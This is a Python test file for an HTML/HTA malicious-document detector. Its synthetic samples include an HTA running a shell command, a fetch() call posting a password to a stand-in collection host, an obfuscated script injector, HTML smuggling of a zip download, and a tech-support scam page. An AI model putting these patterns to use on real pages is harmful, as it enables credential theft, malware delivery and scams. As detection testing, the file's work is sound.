"""HTML / HTA extractor: one synthetic page per finding, features checked alongside."""

from __future__ import annotations

import base64
import io
import os
import zipfile

from maldoc.engine import analyze
from maldoc.filetype import detect
from maldoc.types import FileType


def scan(body: str, name: str = "page.html"):
    data = f"<!DOCTYPE html><html><head><title>t</title></head><body>{body}</body></html>".encode()
    assert detect(data) is FileType.HTML
    return analyze(data, name)


def rules(node) -> set[str]:
    return {f.rule_id for f in node.result.findings}


def feat(node, name: str) -> float:
    return node.result.features[f"html.{name}"]


def test_plain_page_is_quiet_and_counts_structure():
    node = scan('<p>Hello</p><a href="https://example.org/a">a</a><script src="https://cdn.example.org/x.js">'
                '</script><script>var a = 1;</script><iframe src="https://example.org/f" width="0"></iframe>'
                '<img src="x.png" onload="init()">')
    assert not rules(node)
    assert feat(node, "scripts") == 2 and feat(node, "external_scripts") == 1
    assert feat(node, "iframes") == 1 and feat(node, "hidden_iframes") == 1
    assert feat(node, "event_handlers") == 1
    assert feat(node, "visible_text_log2") > 0
    assert "https://example.org/a" in node.result.urls and "https://cdn.example.org/x.js" in node.result.urls
    assert feat(node, "urls") == len(node.result.urls)


def test_hta_with_activex_shell_and_vbscript():
    node = scan('<hta:application id="app" windowstate="minimize"/>'
                '<script language="VBScript">Set s = CreateObject("WScript.Shell")\n'
                's.Run "powershell -nop -c Write-Output inert", 0</script>', "invoice.hta")
    assert {"HTML_HTA_APPLICATION", "HTML_ACTIVEX", "HTML_SHELL_COMMAND", "HTML_VBSCRIPT"} <= rules(node)
    assert feat(node, "hta") == 1 and feat(node, "vbscript") == 1
    assert feat(node, "activex") >= 1 and feat(node, "shell_commands") >= 1


def test_jscript_activex_without_shell_call():
    node = scan('<script>var fso = new ActiveXObject("Scripting.FileSystemObject");</script>')
    assert "HTML_ACTIVEX" in rules(node)
    assert "HTML_SHELL_COMMAND" not in rules(node)


def test_shell_words_in_a_browser_page_are_not_a_shell_command():
    node = scan("<script>var help = 'run powershell to update';</script>")
    assert "HTML_SHELL_COMMAND" not in rules(node)
    assert feat(node, "shell_commands") == 1


def test_credential_form_posting_to_remote_host():
    node = scan('<form action="https://collect.example.net/p.php" method="post">'
                '<input name="email"><input type="password" name="pw"></form>')
    assert "HTML_CREDENTIAL_FORM" in rules(node)
    assert feat(node, "password_inputs") == 1 and feat(node, "external_forms") == 1
    assert "https://collect.example.net/p.php" in node.result.urls


def test_credential_sent_by_script():
    node = scan('<form id="f"><input type="password" id="p"></form>'
                '<script>fetch("https://collect.example.net/x", {method: "POST", body: p.value});</script>')
    assert "HTML_CREDENTIAL_FORM" in rules(node)
    assert feat(node, "script_posts") == 1


def test_password_field_alone():
    node = scan('<form><input type="password"></form>')
    assert rules(node) == {"HTML_PASSWORD_INPUT"}


def test_external_form_without_password():
    node = scan('<form action="https://survey.example.org/submit"><input name="card"></form>')
    assert rules(node) == {"HTML_EXTERNAL_FORM"}


def test_meta_refresh_redirect():
    data = (b'<html><head><meta http-equiv="refresh" content="0; URL=\'https://landing.example.com/x\'">'
            b"</head><body></body></html>")
    node = analyze(data, "r.html")
    assert "HTML_REDIRECT" in rules(node)
    assert node.result.features["html.meta_refresh"] == 1
    assert "https://landing.example.com/x" in node.result.urls


def test_script_location_redirect():
    node = scan('<script>window.location.href = "https://landing.example.com/" + location.hash;</script>')
    assert "HTML_REDIRECT" in rules(node)
    assert feat(node, "location_redirects") == 1


def test_location_comparison_is_not_a_redirect():
    node = scan('<script>if (location.href == "x") { a = 1; }</script>')
    assert "HTML_REDIRECT" not in rules(node)


def test_decoded_string_written_into_page():
    node = scan("<script>document.write(unescape('%3C%69%66%72%61%6D%65%3E'));</script>")
    assert "HTML_OBFUSCATED_SCRIPT" in rules(node)
    assert feat(node, "decode_exec") == 1 and feat(node, "document_writes") == 1
    assert feat(node, "escape_density") > 0


def test_hand_rolled_decoder_injecting_a_script():
    node = scan("<script>function d(h){var s='';for(var i=0;i<h.length;i+=2)"
                "s+=String.fromCharCode(parseInt(h.substr(i,2),16));return s}"
                "var e=document.createElement(d('736372697074'));e.src=d('2f2f78');"
                "document.body.appendChild(e);</script>")
    assert "HTML_OBFUSCATED_SCRIPT" in rules(node)
    assert feat(node, "decoders") >= 1 and feat(node, "injections") == 1


def test_decoder_alone_is_not_obfuscation():
    node = scan("<script>var name = atob('aGVsbG8=');</script>")
    assert "HTML_OBFUSCATED_SCRIPT" not in rules(node)
    assert feat(node, "decoders") == 1


def _zip_b64() -> str:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("invoice.js", "WScript.Echo('inert test');\n" * 40)
    return base64.b64encode(buf.getvalue()).decode()


def test_smuggled_archive_is_decoded_and_scanned():
    blob = _zip_b64()
    node = scan(f"<script>var b = '{blob}';var bytes = Uint8Array.from(atob(b), c => c.charCodeAt(0));"
                "var u = URL.createObjectURL(new Blob([bytes], {type: 'application/zip'}));"
                "var a = document.createElement('a'); a.href = u; a.download = 'invoice.zip'; a.click();</script>")
    assert {"HTML_SMUGGLING", "HTML_ENCODED_PAYLOAD"} <= rules(node)
    assert feat(node, "blob_api") >= 2 and feat(node, "downloads") == 1 and feat(node, "encoded_payloads") == 1
    assert feat(node, "base64_max_log2") > 10
    child = node.children[0]
    assert child.name == "smuggled-1.zip" and child.file_type is FileType.ZIP
    assert [c.name for c in child.children] == ["invoice.js"]  # the smuggled script is found two levels down


def test_ms_save_blob_counts_as_download():
    node = scan("<script>window.navigator.msSaveOrOpenBlob(new Blob([data]), 'a.iso');</script>")
    assert "HTML_SMUGGLING" in rules(node)


def test_large_undecodable_blob():
    blob = base64.b64encode(os.urandom(60_000)).decode()
    node = scan(f"<script>var k = '{blob}';</script>")
    assert "HTML_LARGE_ENCODED_BLOB" in rules(node)
    assert "HTML_ENCODED_PAYLOAD" not in rules(node)


def test_inline_pictures_are_not_blobs():
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + os.urandom(70_000)).decode()
    pdf = base64.b64encode(b"%PDF-1.4\n" + b"0" * 2000 + b"\n%%EOF").decode()
    node = scan(f'<img src="data:image/png;base64,{png}"><a href="data:application/pdf;base64,{pdf}">x</a>')
    assert feat(node, "data_uris") == 2 and feat(node, "data_uris_nonimage") == 1
    assert "HTML_LARGE_ENCODED_BLOB" not in rules(node)
    assert [c.name for c in node.children] == ["smuggled-1.pdf", "inline-image-1.png"]  # pictures: for QR codes


def test_broken_markup_never_raises():
    node = analyze(b"<html><body><scr<ipt><form action=<input type=password <!-- <![CDATA[ </", "bad.html")
    assert node.file_type is FileType.HTML
    assert not node.result.errors


def test_object_tags_eval_and_long_strings_measured():
    node = scan('<object classid="clsid:00000000-0000-0000-0000-000000000000"></object>'
                f"<script>eval(\"{'a' * 2000}\");</script>")
    assert feat(node, "objects") == 1 and feat(node, "activex") >= 1
    assert feat(node, "evals") == 1 and feat(node, "longest_string_log2") > 10


SCAM = ('<h1>Windows Defender Security Alert</h1><p>Your computer has been blocked. Trojan spyware '
        'infection detected. Do not shut down your PC. Call Microsoft Support toll free: '
        '1-888-555-0142</p><audio autoplay loop src="alarm.mp3"></audio>'
        '<script>document.documentElement.requestFullscreen(); window.onbeforeunload = function () '
        '{ return "x"; }; history.pushState(null, "", location.href); alert("Virus detected");'
        'alert("Call now");</script>')


def test_tech_support_scam_page_is_named_with_its_pressure_and_wording():
    node = scan(SCAM)
    assert "HTML_SUPPORT_SCAM" in rules(node)
    assert feat(node, "fullscreen") == 1 and feat(node, "support_phones") == 1
    assert feat(node, "navigation_traps") >= 2 and feat(node, "dialogs") == 2
    assert feat(node, "alarm_audio") == 1 and feat(node, "alarm_words") >= 5


def test_a_shop_contact_line_or_a_video_page_is_not_a_scam():
    shop = scan("<p>Questions about your order? Call our customer line at 1-800-555-0199, Monday to Friday."
                "</p><p>Our antivirus bundle protects against malware.</p>")
    video = scan('<video id="v"></video><script>document.getElementById("v").requestFullscreen();'
                 'new Audio("click.mp3").play();</script><p>Watch the trailer</p>')
    for node in (shop, video):
        assert "HTML_SUPPORT_SCAM" not in rules(node)
    assert feat(shop, "support_phones") == 1 and feat(video, "fullscreen") == 1


def test_scam_pairs_differ_in_the_scam_only():
    import random

    from maldoc.samples.pairs import html_scam

    for i in range(10):
        _fmt, bad, good = html_scam(random.Random(f"scam/{i}"))
        assert "HTML_SUPPORT_SCAM" in rules(analyze(bad, "alert.html"))
        assert "HTML_SUPPORT_SCAM" not in rules(analyze(good, "help.html"))
